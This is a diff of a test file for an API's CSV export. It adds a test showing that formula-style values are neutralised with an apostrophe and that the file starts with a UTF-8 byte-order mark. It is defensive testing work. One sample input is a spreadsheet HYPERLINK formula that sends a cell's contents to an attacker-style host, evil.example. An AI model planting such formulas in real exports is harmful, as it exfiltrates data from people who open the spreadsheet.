@@ -45,7 +45,7 @@ describe('CSV export', () => {
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
     const text = await res.text();
-    const rows = parse(text, { columns: true }) as Record<string, string>[];
+    const rows = parse(text, { columns: true, bom: true }) as Record<string, string>[];
     expect(rows.map((r) => r.id).sort()).toEqual([shed.id, refuge.id].sort());
     const s = rows.find((r) => r.id === shed.id)!;
     expect(s).toMatchObject({ name: 'Shed, "the" workshop', cost: 'low_cost', cost_text: '£1 for tea', referral_email: 'referrals@shed.example', postcode: 'E2 9PL', lat: '51.5316', stale: 'no' });
@@ -57,8 +57,34 @@ describe('CSV export', () => {
     expect(text).not.toContain('E1 6AN');
   });
 
+  it('neutralises spreadsheet formulas in every text cell and starts with a UTF-8 byte-order mark', async () => {
+    const hostile = (await (await t.call('POST', '/api/v1/services', serviceBody({
+      name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+      summary: '+44 7700 900123 (call first)',
+      description: '@SUM(1+1)',
+      cost: { kind: 'low_cost', text: '-£2 off for members' },
+      locations: [{ name: '=1+1 Hall', address: '12 Old Ford Road', postcode: 'E2 9PL', lat: 51.5316, lng: -0.0517 }],
+    }), organiser)).json()) as ServiceView;
+    try {
+      const res = await t.call('GET', '/api/v1/services.csv', undefined, reader);
+      const bytes = new Uint8Array(await res.arrayBuffer());
+      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+      const text = new TextDecoder().decode(bytes);
+      const row = (parse(text, { columns: true, bom: true }) as Record<string, string>[]).find((r) => r.id === hostile.id)!;
+      expect(row.name).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`);
+      expect(row.summary).toBe(`'+44 7700 900123 (call first)`);
+      expect(row.cost_text).toBe(`'-£2 off for members`);
+      expect(row.locations).toMatch(/^'=1\+1 Hall/);
+      // Numbers stay numbers: a western longitude is negative, not a formula.
+      expect(row.lng).toBe('-0.0517');
+      for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+@\t\r]/);
+    } finally {
+      await t.call('DELETE', `/api/v1/services/${hostile.id}`, undefined, organiser);
+    }
+  });
+
   it('takes the list filters', async () => {
-    const rows = parse(await (await t.call('GET', '/api/v1/services.csv?q=safe', undefined, reader)).text(), { columns: true }) as Record<string, string>[];
+    const rows = parse(await (await t.call('GET', '/api/v1/services.csv?q=safe', undefined, reader)).text(), { columns: true, bom: true }) as Record<string, string>[];
     expect(rows.map((r) => r.id)).toEqual([refuge.id]);
   });
 });
